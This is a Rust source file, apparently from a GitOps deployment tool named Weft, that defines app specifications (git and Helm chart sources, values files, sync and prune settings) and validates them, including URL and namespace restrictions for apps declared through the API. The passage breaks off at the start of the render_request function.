//! What an app is: where its manifests come from, how they are rendered, where they go and how they are synced.
//! Read from `weft.toml` `[[app]]` tables or the API; checked before anything uses it.

use std::collections::BTreeMap;
use std::path::PathBuf;

use serde::{Deserialize, Serialize};
use serde_json::Value;

use weft_build::BuildSpec;
use weft_core::resource::{ResourceRef, is_dns_label};
use weft_render::AppSource;
use weft_source::{CredentialSet, Credentials, Repository, Scheme, scheme_of};
use weft_sync::PruneFuse;
use weft_sync::normalize::IgnoreRule;

mod lookup_scope;
mod retry;
pub use lookup_scope::LookupScope;
pub use retry::{RetryBackoff, RetryPolicy, go_duration};

/// The name of the cluster a single `[cluster]` table configures (and of the one cluster of a server built without
/// a configuration).
pub const DEFAULT_CLUSTER: &str = "default";

/// How many deploys an app keeps by default.
pub const DEFAULT_HISTORY_LIMIT: usize = 10;

/// The environment an app runs in, as the fleet list shows it.
#[derive(
    Debug, Clone, Copy, Default, PartialEq, Eq, Hash, Serialize, Deserialize, utoipa::ToSchema,
)]
#[serde(rename_all = "lowercase")]
pub enum Env {
    /// Production.
    #[default]
    Main,
    /// Testing.
    Test,
    /// Development.
    Dev,
}

/// What an app defined through the API may name. Only git repositories — `https://` and `ssh://` (or
/// `git@host:path`), `file://` when the operator allows it — and paths inside them, and the operator's credentials
/// by name. Host resources are the operator's, in `weft.toml`: local directories, SSH key files, environment
/// variables, and the `command` build backend (which runs a plan's commands on the server).
#[derive(Debug, Clone, Default)]
pub struct ApiAppRules {
    /// Whether `file://` repositories are allowed (`[sources] allow_file_urls`).
    pub allow_file_urls: bool,
    /// Directories whose `file://` repositories are allowed even so (`[sources] file_url_roots`).
    pub file_url_roots: Vec<std::path::PathBuf>,
    /// The operator's named credentials.
    pub credentials: CredentialSet,
    /// The configured clusters' names (empty: any name passes here; the server refuses unknown ones later).
    pub clusters: Vec<String>,
    /// The declared deploy gates' names: an app may name only these.
    pub gates: Vec<String>,
}

impl ApiAppRules {
    /// Whether a `file://` URL may be named: all may with `allow_file_urls`, else those of a plain absolute path
    /// (no `.` or `..` segment, no escapes) under one of `file_url_roots`.
    pub fn allows_file_url(&self, url: &str) -> bool {
        if self.allow_file_urls {
            return true;
        }
        let Some(path) = url.strip_prefix("file://") else {
            return false;
        };
        let path = std::path::Path::new(path);
        let plain = path.is_absolute()
            && !url.contains(['%', '\\', '?', '#'])
            && path.components().all(|c| {
                matches!(
                    c,
                    std::path::Component::RootDir | std::path::Component::Normal(_)
                )
            });
        plain
            && self
                .file_url_roots
                .iter()
                .any(|root| path.starts_with(root))
    }
}

/// One app.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct AppSpec {
    /// The app's name: a DNS label, unique, the value of its tracking label.
    pub name: String,
    /// The org (tenant) that owns it; members of that org see it. Without one only admins do.
    #[serde(default)]
    pub org: Option<String>,
    /// Its environment.
    #[serde(default)]
    pub env: Env,
    /// A free-form role shown in the fleet list (`frontend`, `worker`, ...).
    #[serde(default)]
    pub role: Option<String>,
    /// Where its tree is.
    pub source: SourceSpec,
    /// The app type, which picks the renderer (`yaml`, `kustomize`, `helm`, `jsonnet`, ...).
    #[serde(rename = "type")]
    pub app_type: String,
    /// Renderer parameters (`recurse = true`, `"extVar.env" = "prod"`, `set = ["a=1", "b=2"]`).
    #[serde(default)]
    pub parameters: BTreeMap<String, Parameter>,
    /// Values files (Helm), merged in order after the chart's own: paths from the app's directory (which may climb
    /// within its repository), or `$values/PATH` in the `values_source` repository.
    #[serde(default)]
    pub value_files: Vec<String>,
    /// A git repository the values files come from (`$values/PATH`), pinned to its own commit beside the app's
    /// source, as Argo CD's multi-source apps take a chart from one place and its values from another.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub values_source: Option<ValuesSourceSpec>,
    /// Inline values documents (YAML), merged in order after the values files.
    #[serde(default)]
    pub values: Vec<String>,
    /// The release name (Helm); defaults to the app's name.
    #[serde(default)]
    pub release: Option<String>,
    /// Lets its renderer look objects up in its destination cluster (Helm's `lookup`): answered from the server's
    /// watch cache, read-only, only in the app's namespaces, never a Secret's values (docs/render-lookup.md). Off
    /// by default: every lookup then finds nothing, as with `helm template`.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub lookup: bool,
    /// The destination namespace: namespaced objects without one go there.
    pub namespace: String,
    /// The destination cluster: a configured cluster's name (default: the first configured).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub cluster: Option<String>,
    /// How it is synced.
    #[serde(default)]
    pub sync: SyncPolicy,
    /// Differences to ignore.
    #[serde(default)]
    pub ignore: Vec<IgnoreRule>,
    /// Resolve its images to digests and apply them pinned (`image@sha256:…`); the server's `[images] pin` when
    /// unset.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub pin_images: Option<bool>,
    /// Deploy gates it runs besides those its env and org run by default (`[[gate]]` names in weft.toml). An app
    /// can add gates, never drop one.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub gates: Vec<String>,
    /// Build an image from the source before rendering (`[app.build]`); the image reference becomes a render
    /// parameter.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub build: Option<BuildSpec>,
    /// Where it was declared: set by whoever reads it (the configuration, the API, the Application controller),
    /// never by its text.
    #[serde(skip)]
    pub origin: weft_store::AppOrigin,
    /// Where it may put objects, when someone other than the operator or an admin declared it (an Application
    /// resource): set by the Application controller from its org's lists, never by its text.
    #[serde(skip)]
    pub confinement: Option<Confinement>,
    /// Which incarnation of its name it is, when it has them: an Application resource's uid (deleted and created
    /// again, it is another app, which owns nothing of the first). Set by the Application controller, never by
    /// its text.
    #[serde(skip)]
    pub incarnation: Option<String>,
}

/// Names the API's routes use as path segments, which apps cannot have.
pub const RESERVED_NAMES: [&str; 4] = ["applications", "applicationsets", "gitops", "orphans"];

/// Whether `value` matches an allow-list entry: equal, a prefix when the entry ends in `*`, or anything for `*`.
pub fn allowed_by(entry: &str, value: &str) -> bool {
    match entry.strip_suffix('*') {
        Some(prefix) => value.starts_with(prefix),
        None => entry == value,
    }
}

/// Why a repository URL is not matched against an allow-list at all: it says more than where it is, in ways that
/// git or a server would read differently from the text (`..` or `.` segments, percent-escapes, backslashes, a
/// query or fragment, credentials in the URL). `None` for a plain URL.
pub fn unclear_repo_url(url: &str) -> Option<&'static str> {
    let after_scheme = url.split_once("://").map_or(url, |(_, rest)| rest);
    if after_scheme
        .split(['/', ':'])
        .any(|segment| segment == ".." || segment == ".")
    {
        return Some("it has a '.' or '..' segment");
    }
    if url.contains('%') {
        return Some("it has a percent-escape");
    }
    if url.contains('\\') {
        return Some("it has a backslash");
    }
    if url.contains('?') || url.contains('#') {
        return Some("it has a query or a fragment");
    }
    if url.contains("://")
        && after_scheme
            .split('/')
            .next()
            .is_some_and(|a| a.contains('@'))
    {
        return Some("it carries credentials");
    }
    None
}

/// Where an app declared by an org's team may put objects: only namespaced objects, only in its org's
/// destination namespaces, and never Weft's own resources.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Confinement {
    /// The org whose lists these are.
    pub org: String,
    /// The namespaces objects may be in: a name, a prefix ending in `*`, or `*`.
    pub namespaces: Vec<String>,
    /// The org's own namespaces, where its Applications live: a rendered Application (apps of apps) may go there
    /// and nowhere else, so a child is always its parent's org's.
    pub application_namespaces: Vec<String>,
    /// Cluster-scoped kinds it may declare, `group/Kind` (`Kind` for the core group), a prefix ending in `*`, or
    /// `*` (Argo CD's cluster resource allow-list).
    pub cluster_kinds: Vec<String>,
    /// The repositories it may take sources from (`source_repos`): a URL, a prefix ending in `*`, or `*`. Its own
    /// are checked when it is admitted; those its files name (a chart's dependencies) before each fetch.
    pub source_repos: Vec<String>,
}

/// A confined app takes chart dependencies only from repositories its org lists, as it does its own sources.
impl weft_source::outbound::SourceRules for Confinement {
    fn admit(&self, url: &str) -> Result<(), weft_source::outbound::NotAdmitted> {
        use weft_source::outbound::NotAdmitted;
        if let Some(reason) = unclear_repo_url(url) {
            return Err(NotAdmitted::Unclear { reason });
        }
        if self.source_repos.iter().any(|p| allowed_by(p, url)) {
            Ok(())
        } else {
            Err(NotAdmitted::NotListed {
                org: self.org.clone(),
                allowed: listed(&self.source_repos),
            })
        }
    }
}

/// A rendered object a confined app may not place; nothing of the render is applied.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{object}: {reason}; nothing of this render is applied")]
pub struct PlacementError {
    /// The object.
    pub object: String,
    /// Why it may not be placed.
    pub reason: String,
}

impl Confinement {
    /// Checks every desired object (namespaced kinds already given their namespace).
    pub fn check(&self, desired: &[Value]) -> Result<(), PlacementError> {
        for object in desired {
            let refuse = |reason: String| PlacementError {
                object: ResourceRef::of(object)
                    .map(|r| r.to_string())
                    .unwrap_or_else(|_| "a rendered object".into()),
                reason,
            };
            let api_version = object["apiVersion"].as_str().unwrap_or_default();
            let group = weft_core::resource::group_of(api_version);
            let kind = object["kind"].as_str().unwrap_or_default();
            let namespace = object
                .pointer("/metadata/namespace")
                .and_then(Value::as_str)
                .filter(|n| !n.is_empty());
            if group == "weft.dev" {
                // A child Application, in one of the org's own namespaces: the controller runs it as the org's.
                let child_application = kind == "Application"
                    && namespace
                        .is_some_and(|n| self.application_namespaces.iter().any(|own| own == n));
                if child_application {
                    continue;
                }
                return Err(refuse(format!(
                    "Weft's own resources are not org {}'s to declare, but for Applications in its own namespaces ({})",
                    self.org,
                    listed(&self.application_namespaces)
                )));
            }
            match namespace {
                None => {
                    let group_kind = if group.is_empty() {
                        kind.to_string()
                    } else {
                        format!("{group}/{kind}")
                    };
                    if !self
                        .cluster_kinds
                        .iter()
                        .any(|p| allowed_by(p, &group_kind))
                    {
                        return Err(refuse(format!(
                            "a cluster-scoped object is not org {}'s to declare ({group_kind} is not among its \
                             cluster kinds: {})",
                            self.org,
                            listed(&self.cluster_kinds)
                        )));
                    }
                }
                Some(namespace) if !self.namespaces.iter().any(|p| allowed_by(p, namespace)) => {
                    return Err(refuse(format!(
                        "namespace {namespace} is not among org {}'s destinations ({})",
                        self.org,
                        listed(&self.namespaces)
                    )));
                }
                Some(_) => {}
            }
        }
        Ok(())
    }
}

/// A list for a message: its items, or `none`.
fn listed(items: &[String]) -> String {
    if items.is_empty() {
        "none".to_string()
    } else {
        items.join(", ")
    }
}

impl weft_store::AppRecord for AppSpec {
    fn name(&self) -> &str {
        &self.name
    }
}

/// A renderer parameter's value: a string, number or boolean, or a list of them (one parameter per item).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(untagged)]
pub enum Parameter {
    /// One value.
    One(Scalar),
    /// Several values, each passed as the same parameter.
    Many(Vec<Scalar>),
}

/// One parameter value.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(untagged)]
pub enum Scalar {
    /// A string.
    String(String),
    /// An integer.
    Integer(i64),
    /// A float.
    Float(f64),
    /// A boolean.
    Bool(bool),
}

impl Scalar {
    fn text(&self) -> String {
        match self {
            Scalar::String(s) => s.clone(),
            Scalar::Integer(n) => n.to_string(),
            Scalar::Float(n) => n.to_string(),
            Scalar::Bool(b) => b.to_string(),
        }
    }
}

/// Where an app's tree is.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct SourceSpec {
    /// A git repository (a path, or a `file://`, `https://` or `ssh://` URL); without it `path` is a local
    /// directory.
    #[serde(default)]
    pub repo: Option<String>,
    /// The app's directory: inside the repository, or a local directory.
    #[serde(default = "default_path")]
    pub path: String,
    /// The branch, tag or commit to follow.
    #[serde(rename = "ref", default = "default_ref")]
    pub reference: String,
    /// The user name for an https repository.
    #[serde(default)]
    pub username: Option<String>,
    /// The environment variable holding the password or token for an https repository.
    #[serde(default)]
    pub password_env: Option<String>,
    /// An SSH private key for an ssh repository.
    #[serde(default)]
    pub ssh_key: Option<PathBuf>,
    /// An operator-defined credential (`[[credential]]` in `weft.toml`) by name: what an app from the API uses.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub credential: Option<String>,
    /// A chart taken from the chart repository `repo` (`https://` with an `index.yaml`, or `oci://`) instead of a
    /// directory in git, as Argo CD's `chart` source.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub chart: Option<String>,
    /// The chart's version or version range (`^2.0.0`); without it, the newest release.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub version: Option<String>,
}

/// `values_source`: the git repository an app's `$values/` files come from.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ValuesSourceSpec {
    /// The repository (`https://`, `ssh://`, `git@host:path`; a path or `file://` for the operator's apps).
    pub repo: String,
    /// The branch, tag or commit to follow.
    #[serde(rename = "ref", default = "default_ref")]
    pub reference: String,
    /// An operator-defined credential (`[[credential]]`) by name.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub credential: Option<String>,
}

fn default_path() -> String {
    ".".to_string()
}

fn default_ref() -> String {
    "HEAD".to_string()
}

/// How an app is synced.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct SyncPolicy {
    /// Sync when the app is out of sync, without being asked.
    pub automated: bool,
    /// Revert drift in the cluster (needs `automated`).
    pub self_heal: bool,
    /// Delete objects that are no longer rendered (within the fuse).
    pub prune: bool,
    /// Create the destination namespace when it is missing.
    pub create_namespace: bool,
    /// Argo CD's `Force=true` sync option: delete and re-create an object the API will not update in place (an
    /// immutable field changed), as `replace` does. Fields another manager changed need no setting: every sync,
    /// self-heal and rollback applies with server-side apply's force and takes them back.
    pub force: bool,
    /// Delete and re-create an object the API will not update in place (an immutable field changed), as Argo CD's
    /// `Replace=true`/`Force=true` sync options do; each object may also ask for it in its `weft.dev/sync-options`
    /// annotation. Re-creations count against the prune fuse.
    pub replace: bool,
    /// Argo CD's `RespectIgnoreDifferences=true`: the fields the app's ignore rules select are left out of what is
    /// applied to an existing object, so another manager that owns them keeps them (an HPA its replicas); a field
    /// only Weft owns keeps its live value.
    pub respect_ignore_differences: bool,
    /// How many deploys the history keeps.
    pub history_limit: usize,
    /// How long a wave may take to become healthy before the sync fails, in seconds.
    pub wave_timeout_seconds: u64,
    /// The prune fuse.
    pub fuse: FuseSpec,
    /// How a failed automated sync is retried (Argo CD's `syncPolicy.retry`).
    pub retry: RetryPolicy,
}

impl Default for SyncPolicy {
    fn default() -> Self {
        SyncPolicy {
            automated: false,
            self_heal: false,
            prune: false,
            create_namespace: false,
            force: false,
            replace: false,
            respect_ignore_differences: false,
            history_limit: DEFAULT_HISTORY_LIMIT,
            wave_timeout_seconds: 300,
            fuse: FuseSpec::default(),
            retry: RetryPolicy::default(),
        }
    }
}

/// The prune fuse's settings.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct FuseSpec {
    /// At most this many deletions per reconcile; 0 disables the check.
    pub max_deletions: usize,
    /// At most this fraction of the app's live managed objects; 0 disables the check.
    pub max_ratio: f64,
    /// Kinds never deleted, as `group/Kind` (`/PersistentVolumeClaim` for the core group).
    pub never_prune: Vec<String>,
}

impl Default for FuseSpec {
    fn default() -> Self {
        let fuse = PruneFuse::default();
        FuseSpec {
            max_deletions: fuse.max_deletions,
            max_ratio: fuse.max_ratio,
            never_prune: fuse.never_prune,
        }
    }
}

impl FuseSpec {
    /// The fuse these settings describe.
    pub fn fuse(&self) -> PruneFuse {
        PruneFuse {
            max_deletions: self.max_deletions,
            max_ratio: self.max_ratio,
            never_prune: self.never_prune.clone(),
        }
    }
}

/// A setting that cannot be used, naming it.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("app {app:?}: {key}: {message}")]
pub struct SpecError {
    /// The app.
    pub app: String,
    /// The setting, e.g. `sync.fuse.max_ratio`.
    pub key: String,
    /// What is wrong with it.
    pub message: String,
}

impl AppSpec {
    /// Who the app is, as the objects it applies name it: its org, its name and its incarnation.
    pub fn identity(&self) -> weft_core::tracking::AppIdentity {
        weft_core::tracking::AppIdentity::new(
            self.org.as_deref(),
            &self.name,
            self.incarnation.as_deref(),
        )
    }

    /// Checks every setting that can be checked without I/O.
    pub fn validate(&self) -> Result<(), SpecError> {
        self.check_identity()?;
        self.check_source_credentials()?;
        self.check_chart_source()?;
        self.check_source_path()?;
        for (index, file) in self.value_files.iter().enumerate() {
            self.check_value_file(index, file)?;
        }
        self.check_values_source()?;
        self.check_sync()?;
        for (index, rule) in self.ignore.iter().enumerate() {
            rule.validate()
                .map_err(|e| self.spec_error(&format!("ignore[{index}]"), e.to_string()))?;
        }
        if let Some(build) = &self.build {
            build
                .validate()
                .map_err(|(key, message)| self.spec_error(&key, message))?;
        }
        Ok(())
    }

    /// The error that this app's setting `key` cannot be used, saying why.
    fn spec_error(&self, key: &str, message: String) -> SpecError {
        SpecError {
            app: self.name.clone(),
            key: key.to_string(),
            message,
        }
    }

    /// Checks who and where the app is: its name (a DNS label, not one the API's routes reserve), its namespace,
    /// its cluster, its org and its type.
    fn check_identity(&self) -> Result<(), SpecError> {
        if !is_dns_label(&self.name) {
            return Err(self.spec_error(
                "name",
                "must be a DNS label (lowercase letters, digits and '-', at most 63)".into(),
            ));
        }
        if RESERVED_NAMES.contains(&self.name.as_str()) {
            return Err(self.spec_error(
                "name",
                format!("{:?} is reserved by the API's routes", self.name),
            ));
        }
        if !is_dns_label(&self.namespace) {
            return Err(self.spec_error(
                "namespace",
                format!("{:?} is not a namespace name", self.namespace),
            ));
        }
        if let Some(cluster) = &self.cluster
            && !is_dns_label(cluster)
        {
            return Err(self.spec_error("cluster", format!("{cluster:?} is not a cluster name")));
        }
        if let Some(org) = &self.org
            && org.trim().is_empty()
        {
            return Err(self.spec_error("org", "must not be empty".into()));
        }
        if self.app_type.trim().is_empty() {
            return Err(self.spec_error("type", "must name an app type".into()));
        }
        Ok(())
    }

    /// Checks the source's git credentials: they need a repo, a named credential excludes the inline ones, and
    /// `username` comes with `password_env`.
    fn check_source_credentials(&self) -> Result<(), SpecError> {
        if self.source.repo.is_none()
            && (self.source.username.is_some()
                || self.source.password_env.is_some()
                || self.source.ssh_key.is_some()
                || self.source.credential.is_some())
        {
            return Err(self.spec_error("source", "credentials need a repo".into()));
        }
        if self.source.credential.is_some()
            && (self.source.username.is_some()
                || self.source.password_env.is_some()
                || self.source.ssh_key.is_some())
        {
            return Err(self.spec_error(
                "source.credential",
                "name a credential or give username/password_env/ssh_key, not both".into(),
            ));
        }
        if self.source.username.is_some() != self.source.password_env.is_some() {
            return Err(self.spec_error(
                "source.username",
                "username and password_env go together".into(),
            ));
        }
        Ok(())
    }

    /// Checks a chart source: a version needs a chart, and a chart needs a chart repository (https://, oci:// or
    /// http://), a chart name, and none of git's path, ref or credentials.
    fn check_chart_source(&self) -> Result<(), SpecError> {
        if self.source.version.is_some() && self.source.chart.is_none() {
            return Err(self.spec_error(
                "source.version",
                "is a chart's version: name the chart with source.chart".into(),
            ));
        }
        let Some(chart) = &self.source.chart else {
            return Ok(());
        };
        let Some(repo) = &self.source.repo else {
            return Err(self.spec_error(
                "source.chart",
                "needs source.repo, the chart repository (https:// or oci://)".into(),
            ));
        };
        if !(repo.starts_with("https://")
            || repo.starts_with("oci://")
            || repo.starts_with("http://"))
        {
            return Err(self.spec_error(
                "source.repo",
                format!("{repo:?} is not a chart repository (https:// or oci://)"),
            ));
        }
        if chart.is_empty() || chart.contains(['/', ':', ' ']) || chart.starts_with('.') {
            return Err(self.spec_error("source.chart", format!("{chart:?} is not a chart name")));
        }
        if self.source.path != "."
            || self.source.reference != "HEAD"
            || self.source.username.is_some()
            || self.source.ssh_key.is_some()
            || self.source.credential.is_some()
        {
            return Err(self.spec_error(
                "source.chart",
                "a chart from a chart repository has no path, ref or git credentials (the operator's \
                 [[credential]] whose url covers the repository is used)"
                    .into(),
            ));
        }
        Ok(())
    }

    /// Checks that a repository source's path stays inside the repository.
    fn check_source_path(&self) -> Result<(), SpecError> {
        if self.source.repo.is_some() && weft_sdk::source::normalize(&self.source.path).is_none() {
            return Err(self.spec_error(
                "source.path",
                format!("{:?} is not a path inside the repository", self.source.path),
            ));
        }
        Ok(())
    }

    /// Checks the values file `value_files[index]`: a `$values/` file needs a `values_source` and must be a file
    /// inside it; any other file must be a file of the app's repository or inside its local directory.
    fn check_value_file(&self, index: usize, file: &str) -> Result<(), SpecError> {
        let key = format!("value_files[{index}]");
        match file.strip_prefix("$values/") {
            Some(_) if self.values_source.is_none() => Err(self.spec_error(
                &key,
                format!("{file:?} names the values repository, and the app has no values_source"),
            )),
            Some(path) if weft_sdk::source::normalize(path).is_none_or(|p| p.is_empty()) => {
                Err(self.spec_error(
                    &key,
                    format!("{file:?} is not a file inside the values repository"),
                ))
            }
            Some(_) => Ok(()),
            // In a repository a values file may climb towards its root; a local directory is the whole tree.
            None if self.source.repo.is_some()
                && weft_sdk::source::clean(file).is_none_or(|p| p.is_empty()) =>
            {
                Err(self.spec_error(
                    &key,
                    format!("{file:?} is not a file of the app's repository"),
                ))
            }
            None if self.source.repo.is_none()
                && weft_sdk::source::normalize(file).is_none_or(|p| p.is_empty()) =>
            {
                Err(self.spec_error(
                    &key,
                    format!("{file:?} is not a file inside the app's directory"),
                ))
            }
            None => Ok(()),
        }
    }

    /// Checks `values_source`: only an app from a repository takes one, and it names a git repository.
    fn check_values_source(&self) -> Result<(), SpecError> {
        let Some(values) = &self.values_source else {
            return Ok(());
        };
        if self.source.repo.is_none() {
            return Err(self.spec_error(
                "values_source",
                "takes values files for an app from a repository; this app is a local directory"
                    .into(),
            ));
        }
        if values.repo.trim().is_empty() {
            return Err(self.spec_error("values_source.repo", "must name a git repository".into()));
        }
        Ok(())
    }

    /// Checks the sync policy: self-heal needs automated sync, the retry policy, and the prune fuse's ratio and
    /// never-pruned kinds.
    fn check_sync(&self) -> Result<(), SpecError> {
        if self.sync.self_heal && !self.sync.automated {
            return Err(self.spec_error("sync.self_heal", "needs sync.automated = true".into()));
        }
        if let Some((key, message)) = self.sync.retry.problem() {
            return Err(self.spec_error(&format!("sync.retry.{key}"), message));
        }
        let ratio = self.sync.fuse.max_ratio;
        if !(0.0..=1.0).contains(&ratio) {
            return Err(self.spec_error(
                "sync.fuse.max_ratio",
                format!("{ratio} is not between 0 and 1"),
            ));
        }
        for kind in &self.sync.fuse.never_prune {
            if !kind.contains('/') {
                return Err(self.spec_error(
                    "sync.fuse.never_prune",
                    format!("{kind:?}: write group/Kind (/Kind for the core group)"),
                ));
            }
        }
        Ok(())
    }

    /// Checks an app defined through the API against what such an app may name ([`ApiAppRules`]), after
    /// [`AppSpec::validate`]. The error names the key and what to do instead.
    pub fn check_api_rules(&self, rules: &ApiAppRules) -> Result<(), SpecError> {
        self.check_api_gates(rules)?;
        self.check_api_cluster(rules)?;
        self.check_api_host_resources()?;
        let repo = self.api_source_repo()?;
        self.check_api_values_source(rules)?;
        if self.source.chart.is_some() {
            // A chart repository: HTTPS or OCI (the operator's plain-HTTP hosts are for weft.toml apps).
            return self.check_api_chart_repo(repo);
        }
        self.check_api_git_repo(rules, repo)?;
        if let Some(name) = &self.source.credential {
            rules
                .credentials
                .check(name, repo, self.org.as_deref())
                .map_err(|e| self.spec_error("source.credential", e.to_string()))?;
        }
        Ok(())
    }

    /// Checks that every gate the app names is declared on this server.
    fn check_api_gates(&self, rules: &ApiAppRules) -> Result<(), SpecError> {
        if let Some(gate) = self.gates.iter().find(|gate| !rules.gates.contains(gate)) {
            return Err(self.spec_error(
                "gates",
                format!(
                    "no gate {gate:?} is declared on this server (declared: {})",
                    if rules.gates.is_empty() {
                        "none".to_string()
                    } else {
                        rules.gates.join(", ")
                    }
                ),
            ));
        }
        Ok(())
    }

    /// Checks that the app's cluster, when it names one, is one this server manages (when the server lists them).
    fn check_api_cluster(&self, rules: &ApiAppRules) -> Result<(), SpecError> {
        if let Some(cluster) = &self.cluster
            && !rules.clusters.is_empty()
            && !rules.clusters.contains(cluster)
        {
            return Err(self.spec_error(
                "cluster",
                format!(
                    "{cluster:?} is not a cluster this server manages (it manages: {})",
                    rules.clusters.join(", ")
                ),
            ));
        }
        Ok(())
    }

    /// Checks that the app names none of the host's resources: not the command build backend, and no inline git
    /// credentials (`source.username`, `source.password_env`, `source.ssh_key`).
    fn check_api_host_resources(&self) -> Result<(), SpecError> {
        // Whatever the source (a chart repository too): the host's commands and secrets are the operator's.
        if let Some(build) = &self.build
            && build.builder == weft_build::BuilderKind::Command
        {
            return Err(self.spec_error(
                "build.builder",
                "the command backend runs the plan's commands on the server; an app defined through the API \
                 builds with buildkit, podman or buildah"
                    .into(),
            ));
        }
        for (key, set) in [
            ("source.username", self.source.username.is_some()),
            ("source.password_env", self.source.password_env.is_some()),
            ("source.ssh_key", self.source.ssh_key.is_some()),
        ] {
            if set {
                return Err(self.spec_error(
                    key,
                    "is the operator's to set: define a [[credential]] in weft.toml and name it with \
                     source.credential"
                        .into(),
                ));
            }
        }
        Ok(())
    }

    /// Checks that the app names a repository rather than a directory on the server, and returns it.
    fn api_source_repo(&self) -> Result<&str, SpecError> {
        self.source.repo.as_deref().ok_or_else(|| {
            self.spec_error(
                "source.repo",
                "an app defined through the API must name a git repository; a directory on the server is for \
                 apps the operator declares in weft.toml"
                    .into(),
            )
        })
    }

    /// Checks `values_source`: its repository is https:// or ssh:// (file:// where the operator allows it), and
    /// the credential it names covers that repository and the app's org.
    fn check_api_values_source(&self, rules: &ApiAppRules) -> Result<(), SpecError> {
        let Some(values) = &self.values_source else {
            return Ok(());
        };
        match scheme_of(&values.repo) {
            Some(Scheme::Https | Scheme::Ssh) => {}
            Some(Scheme::File) if rules.allows_file_url(&values.repo) => {}
            _ => {
                return Err(self.spec_error(
                    "values_source.repo",
                    format!(
                        "{:?}: a values repository defined through the API is https:// or ssh://",
                        values.repo
                    ),
                ));
            }
        }
        if let Some(name) = &values.credential {
            rules
                .credentials
                .check(name, &values.repo, self.org.as_deref())
                .map_err(|e| self.spec_error("values_source.credential", e.to_string()))?;
        }
        Ok(())
    }

    /// Checks that a chart repository defined through the API is https:// or oci://.
    fn check_api_chart_repo(&self, repo: &str) -> Result<(), SpecError> {
        if repo.starts_with("https://") || repo.starts_with("oci://") {
            return Ok(());
        }
        Err(self.spec_error(
            "source.repo",
            format!("{repo:?}: a chart repository defined through the API is https:// or oci://"),
        ))
    }

    /// Checks that a git repository defined through the API is https:// or ssh:// (file:// only where the
    /// operator allows it; never plain http or a path on the server).
    fn check_api_git_repo(&self, rules: &ApiAppRules, repo: &str) -> Result<(), SpecError> {
        match scheme_of(repo) {
            Some(Scheme::Https | Scheme::Ssh) => Ok(()),
            Some(Scheme::File) if rules.allows_file_url(repo) => Ok(()),
            Some(Scheme::File) => Err(self.spec_error(
                "source.repo",
                "file:// repositories are accepted through the API only when the operator sets [sources] \
                 allow_file_urls = true"
                    .into(),
            )),
            Some(Scheme::Http) => Err(self.spec_error(
                "source.repo",
                format!("{repo:?}: plain http is not accepted through the API; use https://"),
            )),
            Some(Scheme::Path) => Err(self.spec_error(
                "source.repo",
                format!(
                    "{repo:?} is a path on the server; an app defined through the API names a repository URL \
                     (https://, ssh://)"
                ),
            )),
            None => Err(self.spec_error(
                "source.repo",
                format!(
                    "{repo:?} is not a repository URL Weft accepts (https://, ssh://, git@host:path)"
                ),
            )),
        }
    }

    /// Where the app's tree is, for the render pipeline. Reads the password from its environment variable.
    pub fn app_source(&self) -> Result<AppSource, SpecError> {
        let main = self.main_source()?;
        Ok(match &self.values_source {
            Some(values) => AppSource::WithValues {
                main: Box::new(main),
                values: Repository {
                    url: values.repo.clone(),
                    credentials: values.credential.clone().map(Credentials::Named),
                },
                reference: values.reference.clone(),
            },
            None => main,
        })
    }

    /// The source of the app's manifests.
    fn main_source(&self) -> Result<AppSource, SpecError> {
        if let (Some(repository), Some(chart)) = (&self.source.repo, &self.source.chart) {
            return Ok(AppSource::Chart {
                repository: repository.clone(),
                chart: chart.clone(),
                version: self.source.version.clone().unwrap_or_default(),
                org: self.org.clone(),
            });
        }
        let Some(url) = &self.source.repo else {
            return Ok(AppSource::Local {
                path: PathBuf::from(&self.source.path),
                root: None,
            });
        };
        let credentials = match (
            &self.source.username,
            &self.source.password_env,
            &self.source.ssh_key,
        ) {
            (Some(username), Some(var), _) => Some(Credentials::Basic {
                username: username.clone(),
                password: std::env::var(var).map_err(|_| SpecError {
                    app: self.name.clone(),
                    key: "source.password_env".into(),
                    message: format!("the environment variable {var} is not set"),
                })?,
            }),
            (_, _, Some(path)) => Some(Credentials::SshKey { path: path.clone() }),
            _ => self.source.credential.clone().map(Credentials::Named),
        };
        Ok(AppSource::Git {
            repository: Repository {
                url: url.clone(),
                credentials,
            },
            reference: self.source.reference.clone(),
            path: self.source.path.clone(),
        })
    }

    /// A digest of everything that decides what the app renders to besides the revision (source, type,
    /// parameters, values, release, namespace): a change is a reason to sync even at the same commit.
    pub fn render_digest(&self) -> String {
        use sha2::{Digest, Sha256};
        let mut identity = serde_json::json!({
            "source": self.source,
            "type": self.app_type,
            "parameters": self.parameters,
            "values": self.values,
            "value_files": self.value_files,
            "release": self.release,
            "namespace": self.namespace,
        });
        // Only when set, so that apps without them keep the digest they had.
        if let Some(values) = &self.values_source {
            identity["values_source"] = serde_json::json!(values);
        }
        if let Some(build) = &self.build {
            identity["build"] = serde_json::json!(build);
        }
        if let Some(cluster) = &self.cluster {
            identity["cluster"] = serde_json::json!(cluster);
        }
        if self.lookup {
            identity["lookup"] = serde_json::json!(true);
        }
        hex::encode(Sha256::digest(identity.to_string().as_bytes()))
    }

    /// The render request for this app.
    pub fn render_request(&self) -> weft_sdk::RenderRequest {
        let mut parameters = Vec::new();
